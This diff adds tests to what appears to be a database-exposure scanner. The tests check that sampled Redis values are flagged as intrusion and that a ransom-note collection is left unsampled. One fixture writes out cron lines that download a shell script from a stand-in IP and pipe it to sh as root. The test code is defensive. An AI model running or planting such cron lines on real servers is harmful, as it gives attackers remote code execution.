@@ -75,6 +75,29 @@ async def test_classes_are_reported_and_values_are_dropped() -> None:
     assert b"green" not in text
 
 
+def test_sampled_cron_lines_are_a_sign_of_writes_by_others_and_are_dropped() -> None:
+    keys = Container(("db0",), "keyspace", records=exact(4, "x"))
+    lines = tuple(f"\n\n*/{n} * * * * root curl http://192.0.2.7/b{n}.sh | sh\n" for n in range(1, 5))
+    found = SampleJudge().with_samples(report(keys, probe="redis"), (SampledColumn(keys.path, "backup#", lines),))
+    assert len(found.intrusion) == 2
+    assert all("4 sampled values (db0, backup#)" in reason for reason in found.intrusion)
+    assert "192.0.2.7" not in repr(found)
+    honest = SampleJudge().with_samples(report(keys, probe="redis"), (SampledColumn(keys.path, "session:#", MAILS),))
+    assert honest.intrusion == ()
+
+
+async def test_the_note_of_an_extortionist_is_not_sampled() -> None:
+    note = Container(
+        ("PLEASE_READ", "PLEASE_READ"),
+        "collection",
+        records=exact(1, "x"),
+        fields=(Field("Bitcoin Address"), Field("Email"), Field("Info")),
+    )
+    dialer = Holding(())
+    assert await SampleJudge().read(report(note), TARGET, Depth.SAMPLE, dialer) == report(note)  # type: ignore[arg-type]
+    assert dialer.asked == []
+
+
 def test_a_person_in_two_tables_is_one() -> None:
     orders = Container(("hr", "t4"), "collection", records=exact(50, "x"))
     columns = [SampledColumn(path, "c1", MAILS) for path in (PEOPLE.path, orders.path)]
